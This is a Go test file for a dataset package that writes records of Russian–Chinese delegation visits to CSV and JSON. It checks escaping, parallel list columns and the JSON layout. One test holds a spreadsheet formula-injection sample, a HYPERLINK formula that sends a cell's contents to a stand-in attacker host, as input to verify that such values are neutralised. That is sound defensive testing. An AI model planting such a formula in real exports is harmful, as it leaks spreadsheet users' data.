package dataset

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"flag"
	"os"
	"strings"
	"testing"
)

var update = flag.Bool("update", false, "rewrite the table of columns in docs/DATA.md")

func events() []Event {
	return []Event{
		{
			URL: "https://d.example/2025/x/", Title: `Делегация, "итоги"; и ещё`, Date: "2025-03-17", End: "2025-03-18", Published: "2025-03-20",
			Kind:    Term{Slug: "delegation", Name: Names{Ru: "Визит делегации", En: "Delegation visit", Zh: "代表团访问"}, URL: "https://d.example/kinds/delegation/"},
			Regions: []Term{{Slug: "khabarovsk-krai", Country: "RU", Name: Names{Ru: "Хабаровский край", En: "Khabarovsk Krai"}}, {Slug: "beijing", Country: "CN", Name: Names{Ru: "Пекин", En: "Beijing", Zh: "北京"}}},
			Sectors: []Term{{Slug: "investment", Name: Names{Ru: "Инвестиции"}}},
			People:  []Person{{Name: "Сергей Абрамов", Role: "глава делегации"}, {Name: "Андрей Поваляев"}, {Name: "Ли Вэй", Role: "директор; советник"}},
			Places:  []string{"Пекин", "Хэйхэ; КНР"}, Sources: []Source{{URL: "https://example.org/1"}},
			Summary: "Первая строка.\nВторая строка.",
		},
		{URL: "https://d.example/2021/y/", Title: "Второе", Date: "2021-04-29", Published: "2021-04-29", Kind: Term{Slug: "mission"}},
	}
}

// TestCSV reads the CSV back as a reader's tool would, with encoding/csv,
// and splits its lists at Separator.
func TestCSV(t *testing.T) {
	var buf bytes.Buffer
	evs := events()
	if err := WriteCSV(&buf, evs); err != nil {
		t.Fatal(err)
	}
	if evs[0].Places[1] != "Хэйхэ; КНР" {
		t.Errorf("writing the CSV changed the event's places: %q", evs[0].Places)
	}
	if bytes.HasPrefix(buf.Bytes(), []byte("\xef\xbb\xbf")) {
		t.Error("the CSV starts with a byte-order mark")
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 3 {
		t.Fatalf("%d rows, want a header and 2", len(rows))
	}
	col := map[string]int{}
	for i, name := range rows[0] {
		col[name] = i
	}
	if len(col) != len(Columns) {
		t.Errorf("header %v", rows[0])
	}
	r := rows[1]
	for name, want := range map[string]string{
		"title": `Делегация, "итоги"; и ещё`, "regions": "khabarovsk-krai; beijing", "russian_regions": "khabarovsk-krai",
		"chinese_regions": "beijing", "regions_zh": "; 北京", "summary": "Первая строка.\nВторая строка.",
		"kind_en": "Delegation visit", "end": "2025-03-18",
		// A value's own "; " keeps the lists parallel, with a no-break space.
		"people_roles": "глава делегации; ; директор;\u00a0советник", "places": "Пекин; Хэйхэ;\u00a0КНР",
	} {
		if got := r[col[name]]; got != want {
			t.Errorf("%s = %q, want %q", name, got, want)
		}
	}
	if people, roles := strings.Split(r[col["people"]], Separator), strings.Split(r[col["people_roles"]], Separator); len(people) != len(roles) {
		t.Errorf("%d people, %d roles: %q, %q", len(people), len(roles), people, roles)
	}
	if got := rows[2][col["regions"]]; got != "" {
		t.Errorf("an event without regions has %q", got)
	}
}

// TestCSVInert: a value a spreadsheet would take for a formula is written
// with an apostrophe before it; others as they are.
func TestCSVInert(t *testing.T) {
	for title, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?"&A1,"Нажмите")`: `'=HYPERLINK("http://evil.example/?"&A1,"Нажмите")`,
		"+7 к экспорту":                                    "'+7 к экспорту",
		"-30% тарифы":                                      "'-30% тарифы",
		"@SUM(1+1)":                                        "'@SUM(1+1)",
		"Форум = итоги":                                    "Форум = итоги",
		"«Визит»":                                          "«Визит»",
	} {
		var buf bytes.Buffer
		if err := WriteCSV(&buf, []Event{{URL: "https://d.example/2025/x/", Title: title, Date: "2025-03-17", Kind: Term{Slug: "visit"}}}); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for i, name := range rows[0] {
			if name == "title" && rows[1][i] != want {
				t.Errorf("title %q written as %q, want %q", title, rows[1][i], want)
			}
		}
	}
}

func TestJSON(t *testing.T) {
	var buf bytes.Buffer
	meta := Meta{Title: "T", Site: "https://d.example/", License: License{Name: "CC BY 4.0", URL: "https://creativecommons.org/licenses/by/4.0/"}, Updated: "2025-03-20"}
	if err := WriteJSON(&buf, meta, events()); err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Meta
		Count  int              `json:"count"`
		Events []map[string]any `json:"events"`
	}
	if err := json.Unmarshal(buf.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	if doc.Count != 2 || len(doc.Events) != 2 || doc.License.Name != "CC BY 4.0" {
		t.Errorf("top level: %+v", doc.Meta)
	}
	for _, k := range []string{"regions", "sectors", "people", "organizations", "places", "sources"} {
		if v, ok := doc.Events[1][k].([]any); !ok || len(v) != 0 {
			t.Errorf("%s of an event without them is %v, want []", k, doc.Events[1][k])
		}
	}
	if zh := doc.Events[0]["regions"].([]any)[1].(map[string]any)["name"].(map[string]any)["zh"]; zh != "北京" {
		t.Errorf("names: %v", zh)
	}
	// One event a line, between the line of the top level and the closing one.
	if lines := strings.Split(strings.TrimSuffix(buf.String(), "\n"), "\n"); len(lines) != 4 || !strings.HasPrefix(lines[1], `{"url":`) || lines[3] != "]}" {
		t.Errorf("lines:\n%s", buf.String())
	}

	// No events: still the same shape.
	buf.Reset()
	if err := WriteJSON(&buf, meta, nil); err != nil {
		t.Fatal(err)
	}
	doc.Events = nil
	if err := json.Unmarshal(buf.Bytes(), &doc); err != nil || doc.Count != 0 || doc.Events == nil {
		t.Errorf("no events: %v, %s", err, buf.String())
	}
}

// TestCodebook holds docs/DATA.md to Columns; -update rewrites its table.
func TestCodebook(t *testing.T) {
	const file, start, end = "../docs/DATA.md", "<!-- columns -->\n", "<!-- /columns -->"
	doc, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	s := string(doc)
	i, j := strings.Index(s, start), strings.Index(s, end)
	if i < 0 || j < i {
		t.Fatalf("%s has no %q … %q section", file, start, end)
	}
	if got := s[i+len(start) : j]; got != CodebookTable() {
		if *update {
			if err := os.WriteFile(file, []byte(s[:i+len(start)]+CodebookTable()+s[j:]), 0o644); err != nil {
				t.Fatal(err)
			}
			return
		}
		t.Errorf("the table of columns in %s is not Columns' (go test ./dataset -update to rewrite it)", file)
	}
}
